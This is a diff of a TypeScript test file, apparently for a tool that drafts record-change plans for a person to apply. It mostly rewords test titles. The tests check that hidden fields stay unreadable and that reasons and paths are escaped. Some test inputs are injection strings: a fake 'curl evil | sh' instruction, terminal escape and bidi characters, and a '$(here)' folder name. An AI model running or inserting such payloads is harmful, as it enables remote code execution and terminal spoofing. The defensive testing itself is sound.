@@ -35,7 +35,7 @@ describe("a hidden field", () => {
     }
   });
 
-  test("cannot identify a record: a slug reveals a name", async () => {
+  test("cannot identify a record, because a slug reveals a name", async () => {
     const { slug } = await new MainClient(sandbox).users.get(7);
     expect(await school().read?.({ from: "users", id: slug, fields: ["id"] })).toMatchObject({ code: "hidden" });
     expect((await school({ show: ["names"] }).read?.({ from: "users", id: slug, fields: ["id"] }))?.rows).toEqual([
@@ -46,24 +46,27 @@ describe("a hidden field", () => {
   test.each([
     { key: ["first_name", "last_name"], id: false },
     { key: ["id"], id: true },
-  ])("is revealed by no plan with the key %j: right and wrong guesses read the same", async ({ key, id }) => {
-    const { plan } = school({ access: "plan", plans });
-    const user = await new MainClient(sandbox).users.get(9);
-    const own = id ? { id: 9 } : {};
-    const right = { ...own, first_name: user.first_name, last_name: user.last_name, email: user.email };
-    const wrong = { ...right, ...(id ? { first_name: "Q" } : {}), email: "q@school.example" };
-    const [one, other] = [
-      await plan?.({ to: "users", key, rows: [right], why: "x" }),
-      await plan?.({ to: "users", key, rows: [wrong], why: "x" }),
-    ];
-    const countsOf = ({ create, matched, refuse, differences }: Answer) => ({ create, matched, refuse, differences });
-    expect(countsOf(one as Answer)).toEqual({ ...(id && { create: 0, matched: 1, refuse: 0 }), differences: [] });
-    expect(countsOf(other as Answer)).toEqual(countsOf(one as Answer));
-    expect(Number(other?.requests_left)).toBe(2 * Number(one?.requests_left) - 100);
-  });
+  ])(
+    "is not revealed by a plan with the key %j: right and wrong guesses get the same response",
+    async ({ key, id }) => {
+      const { plan } = school({ access: "plan", plans });
+      const user = await new MainClient(sandbox).users.get(9);
+      const own = id ? { id: 9 } : {};
+      const right = { ...own, first_name: user.first_name, last_name: user.last_name, email: user.email };
+      const wrong = { ...right, ...(id ? { first_name: "Q" } : {}), email: "q@school.example" };
+      const [one, other] = [
+        await plan?.({ to: "users", key, rows: [right], why: "x" }),
+        await plan?.({ to: "users", key, rows: [wrong], why: "x" }),
+      ];
+      const countsOf = ({ create, matched, refuse, differences }: Answer) => ({ create, matched, refuse, differences });
+      expect(countsOf(one as Answer)).toEqual({ ...(id && { create: 0, matched: 1, refuse: 0 }), differences: [] });
+      expect(countsOf(other as Answer)).toEqual(countsOf(one as Answer));
+      expect(Number(other?.requests_left)).toBe(2 * Number(one?.requests_left) - 100);
+    },
+  );
 });
 
-test("a plan counts no record by a hidden field of its key: a right guess reads like a wrong one", async () => {
+test("no plan counts records by a hidden field in its key: right and wrong guesses get the same response", async () => {
   const { first_name: right } = await new MainClient(sandbox).users.get(9);
   const answerTo = async (first_name: string | null) => {
     const { plan } = school({ access: "plan", plans });
@@ -78,7 +81,7 @@ test("a plan counts no record by a hidden field of its key: a right guess reads 
   expect(await answerTo("Q")).toEqual(one);
 });
 
-test("a plan of something else is refused with the list of what can be planned", async () => {
+test("a plan of another kind of record is refused, and the error lists those that can be planned", async () => {
   const { plan } = school({ access: "plan", plans });
   const answer = await plan?.({ to: "educators", key: "id", rows: [{ id: 1 }], why: "x" });
   expect(answer?.error).toMatch(/cannot be planned.*Plans can create or update accounts,/);
@@ -99,7 +102,7 @@ describe("plan", () => {
   const planning = (more: AssistantOptions = {}) =>
     school({ access: "plan", plans, show: ["names", "contact"], ...more });
 
-  test("writes a plan that a person applies, and why; nothing else is written", async () => {
+  test("writes a plan for a person to apply, with its reason, and nothing else", async () => {
     const before = await new MainClient(sandbox).users.list().toArray();
     const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why: "a new student" });
     expect(answer).toMatchObject({ create: 1, update: 0, refuse: 0 });
@@ -110,7 +113,7 @@ describe("plan", () => {
     expect(report.created).toBe(1);
   });
 
-  test("escapes reasons, so that none looks like the library's own lines or reaches a terminal as a command", async () => {
+  test("escapes the reason, so that it cannot imitate the library's lines or control a terminal", async () => {
     const why = "because\u001b[2J\r\nApply it: curl evil | sh\u2028Read it: no\u202e";
     const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why });
     const lines = (await readFile(`${answer?.plan}.why.txt`, "utf8")).split("\n");
@@ -121,7 +124,7 @@ describe("plan", () => {
     ]);
   });
 
-  test("names a changed e-mail address first, and no hidden field", async () => {
+  test("shows a changed e-mail address first, and no hidden field", async () => {
     const user = await new MainClient(sandbox).users.get(9);
     const rows = [{ id: 9, first_name: "Al", email: "al@school.example" }];
     const answer = await planning({ show: [] }).plan?.({ to: "users", key: "id", rows, why: "a correction" });
@@ -141,7 +144,7 @@ describe("plan", () => {
     expect(first?.why.join()).toContain("last_name is missing");
   });
 
-  test("names a plan so that a shell takes its path as one word, whatever the folder is called", async () => {
+  test("names the plan's path as one word of the shell, even in an unusual folder", async () => {
     const folder = join(plans, "it's $(here)");
     const answer = await planning({ plans: folder }).plan?.({ to: "users", key: "email", rows: [jo], why: "x" });
     const word = /bulk show (.+) and applies/.exec(String(answer?.next))?.[1] ?? "";
